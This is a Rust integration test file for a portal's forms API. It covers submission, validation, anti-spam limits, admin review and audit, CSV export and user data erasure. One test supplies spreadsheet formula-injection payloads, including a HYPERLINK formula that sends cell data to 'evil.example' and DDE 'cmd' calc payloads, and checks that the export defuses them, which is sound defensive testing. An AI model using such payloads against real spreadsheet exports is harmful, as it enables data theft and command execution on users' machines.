//! Forms through HTTP, on both backends.

use reqwest::Method;
use serde_json::{Value, json};

use crate::helpers::{Kind, TestApp};
use crate::http::{PASSWORD, address, admin, call, mailbox, problem, signup};

both!(
    each_type_is_received_with_its_metadata,
    each_type_is_validated_per_field,
    bots_and_floods_are_turned_away,
    admins_review_filter_and_audit,
    csv_export_quotes_correctly,
    csv_export_defuses_spreadsheet_formulas,
    a_users_own_submissions_join_export_and_erase,
);

async fn app(kind: Kind, extra: &[(&str, &str)]) -> TestApp {
    let mut settings = vec![("FORMS_NOTIFY_EMAIL", "office@example.com")];
    settings.extend_from_slice(extra);
    crate::helpers::portal(kind, &settings).await
}

fn contact(app: &TestApp, message: &str) -> Value {
    json!({"name": "Ada", "email": format!("ada.{}@example.com", app.unique), "subject": "Hello", "message": message})
}

fn interest(app: &TestApp) -> Value {
    json!({"name": "Bo", "email": format!("bo.{}@example.com", app.unique), "phone": "+1 (555) 010-2030", "programs": ["GED", "Coding"]})
}

fn referral(app: &TestApp) -> Value {
    json!({
        "referrerName": "Case Worker", "referrerEmail": format!("cw.{}@example.com", app.unique),
        "participantName": "Cy", "participantContact": "555 0100", "servicesNeeded": ["housing"],
        "notes": "Urgent", "attachments": []
    })
}

async fn submit(app: &TestApp, kind: &str, body: Value) -> Value {
    let response = call(
        app,
        Method::POST,
        &format!("/api/v1/forms/{kind}"),
        None,
        Some(body),
    )
    .await;
    assert_eq!(response.status(), 201);
    let body: Value = response.json().await.unwrap();
    assert_eq!(body["status"], "pending");
    body
}

async fn each_type_is_received_with_its_metadata(kind: Kind) {
    let app = app(kind, &[]).await;
    let token = admin(&app).await;
    let response = app
        .client
        .post(app.url("/api/v1/forms/contact"))
        .header("referer", "https://portal.example/contact")
        .header("user-agent", "form-test/1.0")
        .json(&contact(&app, "Please call me."))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 201);
    let id = response.json::<Value>().await.unwrap()["id"]
        .as_str()
        .unwrap()
        .to_owned();
    submit(&app, "interest", interest(&app)).await;
    submit(&app, "referral", referral(&app)).await;

    let stored: Value = call(
        &app,
        Method::GET,
        &format!("/api/v1/forms/{id}"),
        Some(&token),
        None,
    )
    .await
    .json()
    .await
    .unwrap();
    assert_eq!(stored["type"], "contact");
    assert_eq!(stored["fields"]["message"], "Please call me.");
    assert_eq!(stored["metadata"]["ip"], "127.0.0.1");
    assert_eq!(stored["metadata"]["userAgent"], "form-test/1.0");
    assert_eq!(stored["metadata"]["page"], "https://portal.example/contact");
    // The office hears of each one through the outbox.
    for _ in 0..100 {
        if mailbox(&app, "office@example.com").await.len() >= 3 {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    assert_eq!(mailbox(&app, "office@example.com").await.len(), 3);
    problem(
        call(
            &app,
            Method::POST,
            "/api/v1/forms/complaint",
            None,
            Some(json!({})),
        )
        .await,
        405,
        "METHOD_NOT_ALLOWED",
    )
    .await;
}

async fn each_type_is_validated_per_field(kind: Kind) {
    let app = app(kind, &[]).await;
    let cases = [
        (
            "contact",
            json!({"name": "", "email": "nope", "message": ""}),
            vec!["name", "email", "message"],
        ),
        (
            "interest",
            json!({"name": "Bo", "email": "bo@example.com", "phone": "12", "programs": []}),
            vec!["phone", "programs"],
        ),
        (
            "referral",
            json!({"referrerName": "R", "referrerEmail": "r@example.com", "participantName": "", "participantContact": "x", "servicesNeeded": ["a"], "attachments": ["a/b"]}),
            vec!["participantName", "attachments"],
        ),
        (
            "contact",
            json!({"name": "A", "email": "a@example.com", "message": "m", "favouriteColour": "red"}),
            vec!["body"],
        ),
    ];
    for (kind, body, fields) in cases {
        let response = call(
            &app,
            Method::POST,
            &format!("/api/v1/forms/{kind}"),
            None,
            Some(body),
        )
        .await;
        let problem = problem(response, 400, "VALIDATION_FAILED").await;
        for field in fields {
            assert!(
                problem["errors"][field].is_array(),
                "{kind} {field}: {problem}"
            );
        }
    }
}

async fn bots_and_floods_are_turned_away(kind: Kind) {
    let app = app(kind, &[("RATE_LIMIT_FORMS_PER_HOUR", "2")]).await;
    let token = admin(&app).await;
    // Each client here has an address of its own: the emulators' Redis is shared by tests.
    let mut bot = contact(&app, "Buy now");
    bot["website"] = json!("http://spam.example");
    let trapped = app
        .client
        .post(app.url("/api/v1/forms/contact"))
        .header(
            "x-forwarded-for",
            format!("192.0.2.{}", app.unique.as_bytes()[3]),
        )
        .json(&bot)
        .send()
        .await
        .unwrap();
    assert_eq!(trapped.status(), 201, "a bot is not told it was caught");
    let listed: Value = call(&app, Method::GET, "/api/v1/forms", Some(&token), None)
        .await
        .json()
        .await
        .unwrap();
    assert!(
        listed["items"].as_array().unwrap().is_empty(),
        "the honeypot kept nothing"
    );

    let ip = format!("198.18.0.{}", app.unique.as_bytes()[2]);
    let from_ip = || {
        app.client
            .post(app.url("/api/v1/forms/interest"))
            .header("x-forwarded-for", ip.clone())
            .json(&interest(&app))
            .send()
    };
    assert_eq!(from_ip().await.unwrap().status(), 201);
    assert_eq!(from_ip().await.unwrap().status(), 201);
    let limited = from_ip().await.unwrap();
    assert!(limited.headers().contains_key("retry-after"));
    problem(limited, 429, "RATE_LIMITED").await;
}

async fn admins_review_filter_and_audit(kind: Kind) {
    let app = app(kind, &[]).await;
    let token = admin(&app).await;
    let me: Value = call(&app, Method::GET, "/api/v1/users/me", Some(&token), None)
        .await
        .json()
        .await
        .unwrap();
    let admin_id = me["id"].as_str().unwrap().to_owned();
    let id = submit(&app, "contact", contact(&app, "Hi")).await["id"]
        .as_str()
        .unwrap()
        .to_owned();
    submit(&app, "interest", interest(&app)).await;

    let contacts: Value = call(
        &app,
        Method::GET,
        "/api/v1/forms?type=contact",
        Some(&token),
        None,
    )
    .await
    .json()
    .await
    .unwrap();
    assert_eq!(contacts["items"].as_array().unwrap().len(), 1);
    let today = chrono::Utc::now().format("%Y-%m-%d");
    let dated: Value = call(
        &app,
        Method::GET,
        &format!("/api/v1/forms?from={today}&to={today}"),
        Some(&token),
        None,
    )
    .await
    .json()
    .await
    .unwrap();
    assert_eq!(dated["items"].as_array().unwrap().len(), 2);
    let none: Value = call(
        &app,
        Method::GET,
        "/api/v1/forms?to=2020-01-01",
        Some(&token),
        None,
    )
    .await
    .json()
    .await
    .unwrap();
    assert!(none["items"].as_array().unwrap().is_empty());
    for bad in ["?type=spam", "?status=open", "?from=yesterday"] {
        problem(
            call(
                &app,
                Method::GET,
                &format!("/api/v1/forms{bad}"),
                Some(&token),
                None,
            )
            .await,
            400,
            "VALIDATION_FAILED",
        )
        .await;
    }

    let patched = call(
        &app,
        Method::PATCH,
        &format!("/api/v1/forms/{id}"),
        Some(&token),
        Some(json!({"status": "reviewed", "assignedTo": admin_id})),
    )
    .await;
    assert_eq!(patched.status(), 200);
    call(
        &app,
        Method::PATCH,
        &format!("/api/v1/forms/{id}"),
        Some(&token),
        Some(json!({"status": "resolved", "assignedTo": null})),
    )
    .await;
    let reviewed: Value = call(
        &app,
        Method::GET,
        "/api/v1/forms?status=resolved",
        Some(&token),
        None,
    )
    .await
    .json()
    .await
    .unwrap();
    assert_eq!(reviewed["items"][0]["id"], id.as_str());
    let audit: Value = call(
        &app,
        Method::GET,
        &format!("/api/v1/forms/{id}/audit"),
        Some(&token),
        None,
    )
    .await
    .json()
    .await
    .unwrap();
    let items = audit["items"].as_array().unwrap();
    assert_eq!(items.len(), 2);
    assert_eq!(items[0]["actor"], admin_id.as_str());
    assert_eq!(
        items[0]["changes"]["status"],
        json!({"from": "pending", "to": "reviewed"})
    );
    assert_eq!(
        items[1]["changes"]["assignedTo"],
        json!({"from": admin_id, "to": null})
    );

    problem(
        call(
            &app,
            Method::PATCH,
            &format!("/api/v1/forms/{id}"),
            Some(&token),
            Some(json!({"status": "lost"})),
        )
        .await,
        400,
        "VALIDATION_FAILED",
    )
    .await;
    problem(
        call(
            &app,
            Method::PATCH,
            &format!("/api/v1/forms/{id}"),
            Some(&token),
            Some(json!({"assignedTo": "nobody"})),
        )
        .await,
        400,
        "VALIDATION_FAILED",
    )
    .await;
    problem(
        call(&app, Method::GET, "/api/v1/forms/nope", Some(&token), None).await,
        404,
        "NOT_FOUND",
    )
    .await;
    // Not for learners.
    let learner = signup(&app, &address(&app, "l"), "L").await;
    problem(
        call(
            &app,
            Method::GET,
            "/api/v1/forms",
            learner["accessToken"].as_str(),
            None,
        )
        .await,
        403,
        "FORBIDDEN",
    )
    .await;
    problem(
        call(&app, Method::GET, "/api/v1/forms", None, None).await,
        401,
        "UNAUTHORIZED",
    )
    .await;
}

async fn csv_export_quotes_correctly(kind: Kind) {
    let app = app(kind, &[]).await;
    let token = admin(&app).await;
    let tricky = "Line one, with a comma\nand \"quotes\"";
    submit(&app, "contact", contact(&app, tricky)).await;
    submit(&app, "interest", interest(&app)).await;
    let response = call(
        &app,
        Method::GET,
        "/api/v1/forms/export.csv?type=contact",
        Some(&token),
        None,
    )
    .await;
    assert_eq!(response.status(), 200);
    assert!(
        response.headers()["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/csv")
    );
    let text = response.text().await.unwrap();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let headers = reader.headers().unwrap().clone();
    assert_eq!(&headers[0], "id");
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 1, "{text}");
    let details: Value = serde_json::from_str(&rows[0][9]).unwrap();
    assert_eq!(details["message"], tricky);
    problem(
        call(
            &app,
            Method::GET,
            "/api/v1/forms/export.csv?from=soon",
            Some(&token),
            None,
        )
        .await,
        400,
        "VALIDATION_FAILED",
    )
    .await;
}

async fn a_users_own_submissions_join_export_and_erase(kind: Kind) {
    let app = app(kind, &[]).await;
    let email = format!("ada.{}@example.com", app.unique);
    submit(&app, "contact", contact(&app, "Before I had an account")).await;
    let signed = signup(&app, &email, "Ada").await;
    let token = signed["accessToken"].as_str().unwrap();
    // Forms found by email join only once the address is proven.
    let link = crate::http::mailed_token(&app, &email, "verification").await;
    let verified = app
        .get(&format!("/api/v1/auth/verify-email?token={link}"))
        .await;
    assert_eq!(verified.status(), 200);
    let export: Value = call(
        &app,
        Method::GET,
        "/api/v1/users/me/data-export",
        Some(token),
        None,
    )
    .await
    .json()
    .await
    .unwrap();
    assert_eq!(export["forms"].as_array().unwrap().len(), 1);
    assert_eq!(
        export["forms"][0]["fields"]["message"],
        "Before I had an account"
    );
    let erased = call(
        &app,
        Method::DELETE,
        "/api/v1/users/me",
        Some(token),
        Some(json!({"password": PASSWORD})),
    )
    .await;
    assert_eq!(erased.status(), 202);
    let admin_token = admin(&app).await;
    for _ in 0..100 {
        let left: Value = call(
            &app,
            Method::GET,
            "/api/v1/forms?type=contact",
            Some(&admin_token),
            None,
        )
        .await
        .json()
        .await
        .unwrap();
        if left["items"].as_array().unwrap().is_empty() {
            return;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    panic!("the user's form submission survived the erase");
}

async fn csv_export_defuses_spreadsheet_formulas(kind: Kind) {
    let app = app(kind, &[]).await;
    let token = admin(&app).await;
    let formulas = [
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ];
    for name in formulas {
        let mut body = contact(&app, "Hello");
        body["name"] = json!(name);
        submit(&app, "contact", body).await;
    }
    submit(&app, "contact", contact(&app, "=1+1 in the message")).await;
    let response = call(
        &app,
        Method::GET,
        "/api/v1/forms/export.csv?type=contact",
        Some(&token),
        None,
    )
    .await;
    assert_eq!(response.status(), 200);
    let text = response.text().await.unwrap();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    assert_eq!(&reader.headers().unwrap()[5], "name");
    let mut names: Vec<String> = reader.records().map(|r| r.unwrap()[5].to_owned()).collect();
    names.sort();
    let mut expected: Vec<String> = formulas.iter().map(|f| format!("'{f}")).collect();
    expected.push("Ada".into());
    expected.sort();
    assert_eq!(names, expected, "{text}");
}
